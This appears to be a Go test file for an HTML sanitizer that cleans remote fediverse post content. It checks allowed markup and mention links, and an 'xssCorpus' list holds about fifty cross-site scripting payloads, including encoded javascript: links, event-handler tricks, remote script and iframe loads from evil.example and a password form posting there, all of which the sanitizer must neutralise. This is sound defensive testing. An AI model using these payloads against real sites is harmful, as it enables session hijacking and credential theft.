package content

import (
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

const rel = ` rel="nofollow noopener noreferrer ugc"`

// TestSanitizeHTML pins what survives of remote HTML, element by element.
func TestSanitizeHTML(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"Plain", "hello", "hello"},
		{"Paragraphs", "<p>one</p><p>two<br>three</p>", "<p>one</p><p>two<br/>three</p>"},
		{"Inline", "<p><em>a</em> <strong>b</strong> <b>c</b> <i>d</i> <u>e</u> <del>f</del> <code>g</code></p>",
			"<p><em>a</em> <strong>b</strong> <b>c</b> <i>d</i> <u>e</u> <del>f</del> <code>g</code></p>"},
		{"Pre", "<pre><code>x := 1\n</code></pre>", "<pre><code>x := 1\n</code></pre>"},
		{"Lists", `<ol start="3" reversed><li value="5">a</li></ol><ul><li>b</li></ul>`,
			`<ol start="3" reversed=""><li value="5">a</li></ol><ul><li>b</li></ul>`},
		{"BadListNumbers", `<ol start="x"><li value="1e9">a</li></ol>`, `<ol><li>a</li></ol>`},
		{"Blockquote", "<blockquote><p>q</p></blockquote>", "<blockquote><p>q</p></blockquote>"},
		{"Headings", "<h1>Title</h1><h3>Sub</h3><p>x</p>", "<p><strong>Title</strong></p><p><strong>Sub</strong></p><p>x</p>"},
		{"Link", `<a href="https://example.org/a?b=1&amp;c=2">x</a>`, `<a href="https://example.org/a?b=1&amp;c=2"` + rel + `>x</a>`},
		{"LinkRelAndTargetReplaced", `<a href="https://example.org/" rel="me opener" target="_blank">x</a>`, `<a href="https://example.org/"` + rel + `>x</a>`},
		{"OtherSchemes", `<a href="gemini://g.example/">g</a><a href="magnet:?xt=urn:btih:abc">m</a>`,
			`<a href="gemini://g.example/"` + rel + `>g</a><a href="magnet:?xt=urn:btih:abc"` + rel + `>m</a>`},
		{"RelativeLinkUnwrapped", `<a href="/desk/">desk</a>`, `desk`},
		{"ProtocolRelativeUnwrapped", `<a href="//evil.example/">x</a>`, `x`},
		{"FTPUnwrapped", `<a href="ftp://example.org/">x</a>`, `x`},
		{"MentionKeepsHTTP", `<a href="https://m.example/@ann" class="u-url mention">@ann</a>`,
			`<a href="https://m.example/@ann" class="u-url mention"` + rel + `>@ann</a>`},
		{"MentionOtherSchemeUnwrapped", `<a href="gemini://g.example/ann" class="u-url mention">@ann</a>`, `@ann`},
		{"HashtagOtherSchemeUnwrapped", `<a href="magnet:?xt=urn:btih:abc" class="mention hashtag" rel="tag">#peace</a>`, `#peace`},
		{"ClassesFiltered", `<span class="h-card evil big">x</span><span class="foo">y</span><p class="mention">z</p>`,
			`<span class="h-card">x</span><span>y</span><p>z</p>`},
		{"MastodonLinkSpans", `<a href="https://example.org/very/long">https://<span class="invisible">https://</span><span class="ellipsis">example.org/very</span><span class="invisible">/long</span></a>`,
			`<a href="https://example.org/very/long"` + rel + `>https://<span class="invisible">https://</span><span class="ellipsis">example.org/very</span><span class="invisible">/long</span></a>`},
		{"NoImages", `<p>a<img src="https://tracker.example/p.gif" alt="x">b</p>`, `<p>ab</p>`},
		{"Comment", `a<!-- <script>alert(1)</script> -->b`, `ab`},
		// Unclosed elements are closed, so they cannot swallow the page around them.
		{"UnclosedClosed", `<blockquote><p>open <b>bold <a href="https://x.example/">link`,
			`<blockquote><p>open <b>bold <a href="https://x.example/"` + rel + `>link</a></b></p></blockquote>`},
		{"StrayEndTags", `a</p></blockquote></div>b`, `a<p></p>b`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := SanitizeHTML(c.in); got != c.want {
				t.Errorf("SanitizeHTML(%q)\n got %q\nwant %q", c.in, got, c.want)
			}
		})
	}
}

// TestSanitizeHTML_Mentions keeps the mention and hashtag markup of the servers
// we hear from, links included (docs/federation.md#hashtags, #mentions).
func TestSanitizeHTML_Mentions(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"Mastodon",
			`<p><span class="h-card" translate="no"><a href="https://samizdat.example/actors/en" class="u-url mention">@<span>en</span></a></span> thanks <a href="https://mastodon.example/tags/peace" class="mention hashtag" rel="tag">#<span>peace</span></a></p>`,
			`<p><span class="h-card"><a href="https://samizdat.example/actors/en" class="u-url mention"` + rel + `>@<span>en</span></a></span> thanks <a href="https://mastodon.example/tags/peace" class="mention hashtag"` + rel + `>#<span>peace</span></a></p>`},
		{"GoToSocial",
			`<p><span class="h-card"><a href="http://gts.example/@erin" class="u-url mention" rel="nofollow noreferrer noopener" target="_blank">@<span>erin</span></a></span> hi <a href="http://gts.example/tags/war" class="mention hashtag" rel="tag nofollow noreferrer noopener" target="_blank">#<span>war</span></a></p>`,
			`<p><span class="h-card"><a href="http://gts.example/@erin" class="u-url mention"` + rel + `>@<span>erin</span></a></span> hi <a href="http://gts.example/tags/war" class="mention hashtag"` + rel + `>#<span>war</span></a></p>`},
		{"Misskey",
			`<p><a href="https://misskey.example/@en@samizdat.example" class="u-url mention">@en@samizdat.example</a><span> こんにちは<br>second line </span><a href="https://misskey.example/tags/平和">#平和</a></p>`,
			`<p><a href="https://misskey.example/@en@samizdat.example" class="u-url mention"` + rel + `>@en@samizdat.example</a><span> こんにちは<br/>second line </span><a href="https://misskey.example/tags/%E5%B9%B3%E5%92%8C"` + rel + `>#平和</a></p>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := SanitizeHTML(c.in); got != c.want {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

// xssCorpus is hostile HTML: each must come out inert (see inert).
var xssCorpus = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
	`<a href="java\0script:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="VBScript:msgbox(1)">x</a>`,
	`<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p style="width: expression(alert(1))">x</p>`,
	`<style>body{background:url("javascript:alert(1)")}</style>x`,
	`<style>@import "https://evil.example/x.css";</style>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">x</math>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<form action="https://evil.example/"><input name="p" type="password"><button>go</button></form>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<video><source onerror="alert(1)"></video>`,
	`<body onload=alert(1)>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<base href="https://evil.example/">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<p>unclosed <b>bold <a href="https://ok.example/">link`,
	`<a href="https://ok.example/"<script>alert(1)</script>`,
	`<<script>script>alert(1)<</script>/script>`,
	`<p title="</p><script>alert(1)</script>">x</p>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<template><script>alert(1)</script></template>`,
	`<details open ontoggle=alert(1)>`,
	`<span class="h-card" onmouseenter="alert(1)">x</span>`,
	`<a href="https://ok.example/" class="u-url mention" data-x="1" id="main">x</a>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`"><script>alert(1)</script>`,
	"<a href=\"https://ok.example/\u2028javascript:alert(1)\">x</a>",
}

// TestSanitizeHTML_Hostile runs the XSS corpus through the sanitizer and
// checks the result by parsing it as a browser would.
func TestSanitizeHTML_Hostile(t *testing.T) {
	t.Parallel()
	for _, in := range xssCorpus {
		got := SanitizeHTML(in)
		if problem := inert(got); problem != "" {
			t.Errorf("SanitizeHTML(%q) = %q: %s", in, got, problem)
		}
		// Sanitizing is stable: what we stored survives a second pass as is.
		if again := SanitizeHTML(got); again != got {
			t.Errorf("not idempotent on %q:\n first %q\nsecond %q", in, got, again)
		}
	}
}

// allowed is the element and attribute set of
// docs/federation.md#reply-html-sanitizing, after headings were rewritten.
var allowed = map[string]map[string]bool{
	"p": {}, "br": {}, "del": {}, "pre": {}, "code": {}, "em": {}, "strong": {}, "b": {}, "i": {}, "u": {},
	"ul": {}, "blockquote": {},
	"ol":   {"start": true, "reversed": true},
	"li":   {"value": true},
	"span": {"class": true},
	"a":    {"href": true, "rel": true, "class": true},
}

// inert parses html in a body context and reports the first element or
// attribute outside the allowed set, any link that is not http(s) or one
// of the listed schemes, or any link without the fixed rel.
func inert(s string) string {
	body := &xhtml.Node{Type: xhtml.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := xhtml.ParseFragment(strings.NewReader(s), body)
	if err != nil {
		return err.Error()
	}
	var walk func(n *xhtml.Node) string
	walk = func(n *xhtml.Node) string {
		switch n.Type {
		case xhtml.ElementNode:
			attrs, ok := allowed[n.Data]
			if !ok || n.Namespace != "" {
				return "element <" + n.Data + "> survived"
			}
			for _, a := range n.Attr {
				if !attrs[a.Key] || a.Namespace != "" {
					return "attribute " + a.Key + " on <" + n.Data + "> survived"
				}
				if a.Key == "href" {
					scheme, _, _ := strings.Cut(strings.ToLower(a.Val), ":")
					ok := false
					for _, s := range linkSchemes {
						ok = ok || scheme == s
					}
					if !ok {
						return "link to " + a.Val
					}
				}
			}
			if n.Data == "a" {
				rel := ""
				for _, a := range n.Attr {
					if a.Key == "rel" {
						rel = a.Val
					}
				}
				if rel != LinkRel {
					return "link without the fixed rel"
				}
			}
		case xhtml.CommentNode, xhtml.DoctypeNode:
			return "a comment or doctype survived"
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if p := walk(c); p != "" {
				return p
			}
		}
		return ""
	}
	for _, n := range nodes {
		if p := walk(n); p != "" {
			return p
		}
	}
	if strings.Contains(strings.ToLower(s), "<script") {
		return "a script tag survived as markup"
	}
	return ""
}

// TestInert checks that the checker itself catches what it must.
func TestInert(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick="x">a</p>`, `<a href="javascript:x"` + rel + `>a</a>`,
		`<a href="https://x/">no rel</a>`, `<img src="x">`, `<!-- c -->`, `<svg></svg>`,
	} {
		if inert(bad) == "" {
			t.Errorf("inert(%q) found nothing wrong", bad)
		}
	}
	if p := inert(`<p><a href="https://x/"` + rel + `>a</a></p>`); p != "" {
		t.Errorf("a clean fragment: %s", p)
	}
}

func TestPlainText(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{`<p>Hello <b>wor</b>ld</p><p>again&amp;again</p>`, "Hello world again&again"},
		{`line<br>break`, "line break"},
		{`<script>evil()</script>text<style>p{}</style>`, "text"},
		{`plain`, "plain"},
	} {
		if got := PlainText(c.in); got != c.want {
			t.Errorf("PlainText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestReply_Empty(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		r    Reply
		want bool
	}{
		{"Text", Reply{ContentHTML: "<p>hi</p>"}, false},
		{"CleanedToNothing", Reply{ContentHTML: SanitizeHTML(`<p> <img src="x"><script>alert(1)</script></p><br>`)}, true},
		{"Blank", Reply{ContentHTML: ""}, true},
		{"ImageOnly", Reply{Attachments: []Attachment{{Media: "a.png"}}}, false},
		{"EmojiOnly", Reply{ContentHTML: ":blob:"}, false},
	} {
		if got := c.r.Empty(); got != c.want {
			t.Errorf("%s: Empty() = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestHTTPURL(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]bool{
		"https://m.example/@ann": true, "http://m.example/tags/x": true,
		"javascript:alert(1)": false, "gemini://g.example/": false, "/tags/x": false, "https://": false, "": false,
	} {
		if got := HTTPURL(s); got != want {
			t.Errorf("HTTPURL(%q) = %v, want %v", s, got, want)
		}
	}
}
